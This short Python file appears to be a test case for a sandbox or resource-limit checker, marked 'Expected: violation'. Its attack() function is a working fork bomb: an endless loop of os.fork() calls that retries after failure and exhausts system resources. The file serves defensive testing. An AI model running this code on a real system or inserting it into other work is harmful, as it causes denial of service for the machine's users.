"""Forks in every process that comes out of a fork, without end.

Expected: violation
"""

import os
import time


def attack(info):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
